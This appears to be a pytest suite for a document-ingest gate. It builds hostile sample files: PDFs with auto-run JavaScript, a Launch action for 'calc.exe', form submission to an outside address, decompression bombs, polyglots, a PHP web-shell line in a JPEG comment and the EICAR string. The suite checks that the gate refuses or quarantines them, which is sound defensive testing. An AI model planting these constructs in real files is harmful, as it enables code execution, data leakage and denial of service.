"""The gate: what may come in.  Verdicts are those a records officer would give."""

from __future__ import annotations

import json
import os
import random
import zlib

import hostile
import pikepdf
import pytest
from hostile import one_page, picture, stream

from hoso.ingest.verdict import MESSAGES, NOTES

SCRIPT = "/S /JavaScript /JS (app.alert\\(1\\))"
FORM = "/Type /XObject /Subtype /Form /BBox [0 0 9 9]"


def _attached() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["note.txt"] = b"hello"
    return hostile.saved(document)


def _encrypted(*, user: str, level: int) -> bytes:
    document = pikepdf.open(_stream(one_page()))
    return hostile.saved(
        document,
        encryption=pikepdf.Encryption(
            user=user, owner="owner", R=level, aes=level >= 4, metadata=level >= 4
        ),
    )


def _stream(data: bytes):
    import io

    return io.BytesIO(data)


def _signed() -> bytes:
    body = one_page(
        catalog="/AcroForm << /Fields [10 0 R] /SigFlags 3 >>",
        more={
            10: b"<< /FT /Sig /T (S) /V 11 0 R >>",
            11: (
                b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
                b"/ByteRange [0 100 200 AAAAAA] /Contents <00> >>"
            ),
        },
    )
    return body.replace(b"AAAAAA", f"{len(body) - 200:06d}".encode())


PLAIN = one_page()
HUGE_OBJECT_STREAM = hostile.spaces(300 << 20)

CASES = {
    # --- what acts by itself
    "script on opening": (one_page(catalog=f"/OpenAction << {SCRIPT} >>"), "active-content"),
    "script in a stream": (
        one_page(catalog="/OpenAction << /S /JavaScript /JS 10 0 R >>", more={10: stream(b"1")}),
        "active-content",
    ),
    "script on turning a page": (one_page(page=f"/AA << /O << {SCRIPT} >> >>"), "active-content"),
    "script by name": (
        one_page(catalog="/Names << /JavaScript << /Names [(a) 10 0 R] >> >>", more={
            10: f"<< {SCRIPT} >>".encode()
        }),
        "active-content",
    ),
    "script with an escaped name": (
        one_page(catalog="/OpenAction << /S /J#61vaScript /#4aS (1) >>"),
        "active-content",
    ),
    "program started by a link": (
        one_page(page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>]"),
        "active-content",
    ),
    "next action starts a program": (
        one_page(catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (a) >> >>"),
        "active-content",
    ),
    "form that is sent": (
        one_page(page="/AA << /O << /S /SubmitForm /F (http://192.0.2.1/) >> >>"),
        "active-content",
    ),
    "data imported": (one_page(catalog="/OpenAction << /S /ImportData /F (a.fdf) >>"), "active-content"),
    "another file opened": (
        one_page(catalog="/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) /D [0 /Fit] >>"),
        "active-content",
    ),
    "web address opened by itself": (
        one_page(catalog="/OpenAction << /S /URI /URI (http://192.0.2.1/) >>"),
        "active-content",
    ),
    "film": (
        one_page(page="/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        "active-content",
    ),
    "PostScript": (one_page(more={10: stream(b"1", "/Type /XObject /Subtype /PS")}), "active-content"),
    "attachment": (_attached(), "embedded-file"),
    "attachment as an annotation": (
        one_page(page="/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 10 0 R >>]", more={
            10: b"<< /Type /Filespec /F (a) /EF << /F 11 0 R >> >>",
            11: stream(b"x", "/Type /EmbeddedFile"),
        }),
        "embedded-file",
    ),
    "portfolio": (one_page(catalog="/Collection << /View /D >>"), "embedded-file"),
    "form that draws itself": (
        one_page(catalog="/AcroForm << /XFA 10 0 R /Fields [] >>", more={10: stream(b"<x/>")}),
        "dynamic-form",
    ),
    "page of another file": (
        one_page(more={10: stream(b"", f"{FORM} /Ref << /F (other.pdf) /Page 0 >>")}),
        "external-content",
    ),
    "content in another file": (one_page(content=b"", content_entries="/F (other.bin)"), "external-content"),
    # --- what unpacks to too much
    "bomb": (hostile.content_pdf(hostile.spaces(90 << 20), "/FlateDecode"), "bomb"),
    "bomb in three layers": (
        hostile.content_pdf(
            hostile.packed(hostile.spaces(90 << 20), 2), "[/FlateDecode /FlateDecode /FlateDecode]"
        ),
        "bomb",
    ),
    "bomb in hexadecimal": (
        hostile.content_pdf(
            hostile.spaces(90 << 20).hex().encode() + b">", "[/ASCIIHexDecode /FlateDecode]"
        ),
        "bomb",
    ),
    "bomb in base 85": (
        hostile.content_pdf(
            __import__("base64").a85encode(hostile.spaces(90 << 20)) + b"~>",
            "[/A85 /Fl]",
        ),
        "bomb",
    ),
    "bomb by LZW": (hostile.content_pdf(hostile.lzw_zeros(60 << 20), "/LZWDecode"), "bomb"),
    "bomb by run length, twice": (
        hostile.content_pdf(b"\x81\x81" * 12_000 + b"\x80", "[/RunLengthDecode /RunLengthDecode]"),
        "bomb",
    ),
    "bomb behind a picture of ten by ten": (
        picture(
            "/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
            hostile.spaces(90 << 20),
        ),
        "bomb",
    ),
    "one stream named ten thousand times": (
        one_page(more={10: stream(hostile.packed(b"q Q " * 20_000), "/Filter /FlateDecode")}).replace(
            b"/Contents 4 0 R", b"/Contents [" + b"10 0 R " * 10_000 + b"]"
        ),
        None,  # the table of contents no longer fits: any refusal will do
    ),
    "picture too large": (
        picture("/Width 40000 /Height 40000 /ColorSpace /DeviceGray /BitsPerComponent 1"),
        "page-picture-too-large",
    ),
    "JPEG that claims more than the page says": (
        picture(
            "/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode",
            b"\xff\xd8\xff\xc0\x00\x0b\x08\xff\xdc\xff\xdc\x01\x01\x11\x00\xff\xd9",
        ),
        "page-picture-too-large",
    ),
    "JBIG2 that claims more than the page says": (
        picture(
            "/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode",
            hostile.jbig2_header(100_000, 100_000),
        ),
        "page-picture-too-large",
    ),
    "fax that claims more than the page says": (
        picture(
            "/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 1 "
            "/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>"
        ),
        "page-picture-too-large",
    ),
    "picture written into the content": (
        one_page(content=b"q BI /W 60000 /H 60000 /BPC 8 /CS /G /F /Fl ID xx EI Q"),
        "page-picture-too-large",
    ),
    "row of pixels beyond measure": (
        one_page(
            content=zlib.compress(b"q Q"),
            content_entries="/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2000000000 >>",
        ),
        "damaged",
    ),
    # --- what contains itself
    "form that draws itself for ever": (hostile.chain_of_forms(10), "nested"),
    "two forms that draw each other": (hostile.chain_of_forms(10, 11), "nested"),
    "ten forms, ten times each": (hostile.tower_of_forms(8, 10), "nested"),
    "a hundred forms in each other": (hostile.tower_of_forms(100, 1), "nested"),
    "pattern that paints itself": (
        one_page(
            resources="/Pattern << /P 10 0 R >>",
            more={
                10: stream(
                    b"/Pattern cs /P scn 0 0 9 9 re f",
                    "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9 "
                    "/Resources << /Pattern << /P 10 0 R >> >>",
                )
            },
        ),
        "nested",
    ),
    "glyph made of its own font": (
        one_page(
            resources="/Font << /F1 10 0 R >>",
            more={
                10: (
                    b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] "
                    b"/CharProcs << /a 11 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 "
                    b"/LastChar 97 /Widths [9] /Resources << /Font << /F1 10 0 R >> >> >>"
                ),
                11: stream(b"9 0 d0 BT /F1 1 Tf (a) Tj ET"),
            },
        ),
        "nested",
    ),
    "mask made of itself": (
        one_page(
            resources="/XObject << /X 10 0 R >>",
            more={
                10: stream(
                    b"/G gs /X Do",
                    f"{FORM} /Resources << /ExtGState << /G << /SMask << /S /Alpha /G 10 0 R >> >> >> >>",
                )
            },
        ),
        None,
    ),
    # --- what is too large or too many
    "page longer than a format allows": (one_page(media="[0 0 20000 20000]"), "page-too-large"),
    "page made large by its unit": (one_page(page="/UserUnit 100"), "page-too-large"),
    "three thousand pages": (hostile.many_pages(3000), "too-many-pages"),
    "no pages": (
        hostile.assembled({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
        "no-pages",
    ),
    "page tree that contains itself": (
        hostile.assembled({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
        None,
    ),
    # --- what is broken
    "first half": (PLAIN[: len(PLAIN) // 2], "damaged"),
    "without its end": (PLAIN[:-30], "damaged"),
    "header only": (b"%PDF-1.7\n", "too-small-to-be"),
    "table of contents that leads nowhere": (
        PLAIN.replace(b"startxref\n", b"startxref\n9"),
        "damaged",
    ),
    # --- what is two things
    "archive behind a PDF": (PLAIN + hostile.zipped({"a.txt": b"x"}), "two-in-one"),
    "archive in front of a PDF": (
        b"PK\x03\x04" + b"\0" * 60 + PLAIN,
        "two-in-one",
    ),
    "script behind a PDF": (PLAIN + b"<script>alert(1)</script>", "two-in-one"),
    "program behind a PDF": (PLAIN + b"\x7fELF" + b"\0" * 400, "two-in-one"),
    "picture in front of a PDF": (b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + PLAIN, "two-in-one"),
    "web page in front of a PDF": (b"<html><body>x</body></html>\n" + PLAIN, "two-in-one"),
    "much noise behind a PDF": (PLAIN + hostile.noise(100_000), "two-in-one"),
    "archive behind a JPEG": (hostile.jpeg() + hostile.zipped({"a": b"x"}), "two-in-one"),
    "archive behind a PNG": (hostile.png() + hostile.zipped({"a": b"x"}), "two-in-one"),
    "archive behind a TIFF": (hostile.tiff() + hostile.zipped({"a": b"x"}), "two-in-one"),
    "script in a JPEG's comment": (hostile.jpeg(comment=b"<?php system($_GET[0]); ?>"), "two-in-one"),
    "PDF behind a JPEG": (hostile.jpeg() + PLAIN, "two-in-one"),
    # --- locked
    "password, 40 bits": (_encrypted(user="x", level=2), "password"),
    "password, 128 bits": (_encrypted(user="x", level=4), "password"),
    "password, 256 bits": (_encrypted(user="x", level=6), "password"),
    # --- pictures
    "half a JPEG": (hostile.jpeg()[:3000], "damaged"),
    "half a PNG": (hostile.png()[:120], "damaged"),
    "half a TIFF": (hostile.tiff(size=(900, 900))[: 40_000], "damaged"),
    "TIFF directories in a circle": (hostile.circle_of_directories((8, 80, 160)), "damaged"),
    "PNG of ten gigapixels": (
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (100_000).to_bytes(4) * 2 + b"\x01\0\0\0\0" + b"\0" * 60,
        "picture-too-large",
    ),
    # --- other kinds
    "GIF": (b"GIF89a" + b"\x01\x00\x01\x00\x00\x00\x00" + b"\0" * 20 + b";", "type-image"),
    "BMP": (b"BM" + b"\x3a\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x01\0\0\0\x01\0\0\0\x01\0\x18\0" + b"\0" * 30, "type-image"),
    "WebP": (b"RIFF\x24\0\0\0WEBPVP8 \x18\0\0\0" + b"\0" * 30, "type-image"),
    "HEIC": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 40, "type-image"),
    "Word document": (hostile.docx(), "type-office"),
    "Word document with macros": (hostile.docx("word/vbaProject.bin"), "type-macro"),
    "OpenDocument": (
        hostile.zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
        "type-office",
    ),
    "old Word document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "type-office"),
    "rich text": (b"{\\rtf1\\ansi hello}", "type-office"),
    "archive": (hostile.zipped({"a.pdf": b"x" * 2000}), "type-archive"),
    "compressed file": (__import__("gzip").compress(b"x" * 500, mtime=0), "type-archive"),
    "Windows program": (b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0\x4c\x01" + b"\0" * 300, "type-program"),
    "Linux program": (b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\0\x3e\0\x01\0\0\0" + b"\0" * 100, "type-program"),
    "shell script": (b"#!/bin/sh\necho hello\n" * 4, "type-program"),
    "plain text": ("Quyết định số 14\n".encode() * 5, "accept"),
    "plain text with a byte order mark": (b"\xef\xbb\xbf" + "Quyết định".encode(), "accept"),
    "plain text in UTF-16": ("Quyết định số 14\n".encode("utf-16"), "text-encoding"),
    "plain text in TCVN3": ("QuyÕt ®Þnh sè 14\n".encode("latin-1") * 5, "text-encoding"),
    "plain text with a zero byte far behind": (b"abcd\n" * 2000 + b"\0", "text-encoding"),
    "nothing but spaces": (b" \n \n", "empty"),
    "plain text of six megabytes": (b"abcdefghijk\n" * (1 << 19), "too-big"),
    "JSON": (b'{"a": [1, 2]}', "not-a-paper"),
    "JSON longer than its first bytes": (b"[" + b'{"a": 1},\n' * 999 + b"{}]", "not-a-paper"),
    "CSV": (b"a,b,c\n1,2,3\n4,5,6\n", "not-a-paper"),
    "XML": (b'<?xml version="1.0"?><a/>', "not-a-paper"),
    "XML with a script": (b'<?xml version="1.0"?><a><script/></a>', "type-text"),
    "mail": (b"From: a@b.vn\nTo: c@d.vn\nSubject: x\n\nhello\n", "not-a-paper"),
    "web page": (b"<!DOCTYPE html><html><head></head><body>x</body></html>", "type-text"),
    "noise": (random.Random(1).randbytes(65536), "type-unknown"),
    "nothing": (b"", "empty"),
    # --- whole and harmless
    "plain PDF": (PLAIN, "accept"),
    "link to a web address": (
        one_page(page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://192.0.2.1/) >> >>]"),
        "accept",
    ),
    "picture called JS": (
        one_page(
            resources="/XObject << /JS 10 0 R >>",
            more={10: stream(b"\0", "/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8")},
        ),
        "accept",
    ),
    "blank scan": (
        picture(
            "/Width 5000 /Height 7000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
            zlib.compress(b"\xff" * (5000 * 7000), 9),
        ),
        "accept",
    ),
    "watermarks over watermarks": (hostile.tower_of_forms(5, 2), "accept"),
    "scanner bytes behind the end": (PLAIN + hostile.noise(3000), "accept"),
    "byte order mark in front": (b"\xef\xbb\xbf" + PLAIN, None),
    "owner's restrictions": (_encrypted(user="", level=4), "accept"),
    "signed": (_signed(), "accept"),
    "JPEG": (hostile.jpeg(), "accept"),
    "progressive JPEG": (hostile.jpeg(progressive=True), "accept"),
    "JPEG with bytes behind": (hostile.jpeg() + b"\0" * 600, "accept"),
    "PNG": (hostile.png(), "accept"),
    "TIFF of five pages": (hostile.tiff(5, compression="group4"), "accept"),
}  # fmt: skip


@pytest.mark.parametrize("case", CASES)
def test_a_file_made_to_harm_is_told_from_one_that_is_not(case, reader, tmp_path):
    data, expected = CASES[case]
    path = tmp_path / "paper"
    path.write_bytes(data)

    verdict = reader.inspect(path)

    codes = [each.code for each in verdict.reasons]
    if expected == "accept":
        assert (verdict.outcome, codes) == ("accepted", [])
    elif expected is None:
        assert verdict.outcome in {"quarantined", "refused", "accepted"}
    else:
        assert expected in codes
        assert verdict.outcome in {"quarantined", "refused"}


def test_every_file_of_the_zoo_gets_the_answer_its_list_asks_for(reader, shared):
    expected = json.loads((shared / "zoo" / "expected.json").read_text(encoding="utf-8"))
    words = {"accepted": "accept", "quarantined": "quarantine", "refused": "refuse"}

    wrong = {
        each["file"]: words[verdict.outcome]
        for each in expected
        if words[(verdict := reader.inspect(shared / "zoo" / "files" / each["file"])).outcome]
        not in each["right"]
    }

    assert wrong == {}


def test_real_scans_come_in(reader, shared):
    scans = sorted((shared / "corpus" / "scans").glob("*.pdf"))

    outcomes = {path.name: reader.inspect(path).reason for path in scans}

    assert dict.fromkeys(outcomes) == outcomes


def test_an_object_stream_that_is_a_bomb_is_refused_though_the_check_dies_of_it(reader, tmp_path):
    path = tmp_path / "paper.pdf"
    # The library unpacks object streams whole, before anybody can measure them.
    path.write_bytes(
        one_page(
            more={
                10: stream(HUGE_OBJECT_STREAM, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
            }
        )
    )

    verdict = reader.inspect(path)

    assert verdict.outcome == "refused"
    assert [each.code for each in verdict.reasons] == ["bomb"]


def test_a_signed_paper_comes_in_with_a_note(reader, tmp_path):
    path = tmp_path / "signed.pdf"
    path.write_bytes(_signed())

    verdict = reader.inspect(path)

    assert verdict.signed
    assert [each.code for each in verdict.notes] == ["signed"]


def test_something_added_behind_a_signature_is_noted(reader, tmp_path):
    path = tmp_path / "signed.pdf"
    path.write_bytes(_signed() + b"\n" * 20 + _signed()[-200:])

    assert "signed-then-changed" in [each.code for each in reader.inspect(path).notes]


@pytest.mark.parametrize(
    ("data", "puid"),
    [
        pytest.param(PLAIN, "fmt/276", id="PDF 1.7"),
        pytest.param(PLAIN.replace(b"%PDF-1.7", b"%PDF-1.4"), "fmt/18", id="PDF 1.4"),
        pytest.param(hostile.jpeg(), "fmt/43", id="JFIF 1.01"),
        pytest.param(hostile.png(), "fmt/11", id="PNG 1.0"),
        pytest.param(hostile.tiff(), "fmt/353", id="TIFF"),
    ],
)
def test_the_format_registry_number_is_told(data, puid, reader, tmp_path):
    path = tmp_path / "paper"
    path.write_bytes(data)

    assert reader.inspect(path).puid == puid


def test_the_content_counts_and_the_name_is_a_note(reader, tmp_path):
    path = tmp_path / "scan.pdf"
    path.write_bytes(hostile.jpeg())

    verdict = reader.inspect(path)

    assert (verdict.outcome, verdict.mime) == ("accepted", "image/jpeg")
    assert [each.code for each in verdict.notes] == ["name-differs"]


@pytest.mark.parametrize(
    "name",
    [
        b"quy\xeat_dinh.pdf",
        "quyết định.pdf".encode(),
        b"a\nb.pdf",
        "\u202efdp.exe".encode(),
        b"x" * 251 + b".pdf",
        b"CON.pdf",
        b" . ",
    ],
)
def test_a_strange_name_changes_nothing(name, reader, tmp_path):
    path = os.fsencode(tmp_path) + b"/" + name
    with open(path, "wb") as file:  # noqa: PTH123
        file.write(PLAIN)

    assert reader.inspect(os.fsdecode(path)).outcome == "accepted"


def test_what_is_no_file_is_refused_without_waiting(reader, tmp_path):
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)

    for path in (tmp_path, pipe, tmp_path / "missing", "/dev/zero", "a\0b"):
        verdict = reader.inspect(path)
        assert (verdict.outcome, verdict.reasons[0].code) == ("refused", "not-a-file")


def test_a_file_beyond_the_limit_is_refused_unread(reader, tmp_path):
    path = tmp_path / "sparse.pdf"
    with path.open("wb") as file:
        file.truncate(600 << 20)

    verdict = reader.inspect(path, digest=False)

    assert [each.code for each in verdict.reasons] == ["too-big"]


def test_the_test_virus_does_not_trouble_a_gate_without_a_scanner(reader, tmp_path):
    path = tmp_path / "paper.com"
    path.write_bytes(b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")

    # Sixty-eight letters of plain text; whoever has a scanner refuses them before.
    assert reader.inspect(path).outcome == "accepted"


def test_every_message_tells_what_to_do_next():
    verbs = (
        "send",
        "scan",
        "save",
        "check",
        "wait",
        "convert",
        "print",
        "split",
        "remove",
        "unpack",
        "tell",
        "make",
    )

    silent = [
        code
        for code, (_, message) in MESSAGES.items()
        if not any(f" {verb}" in f" {message.lower()}" for verb in verbs)
    ]

    assert silent == []
    assert not set(MESSAGES) & set(NOTES)
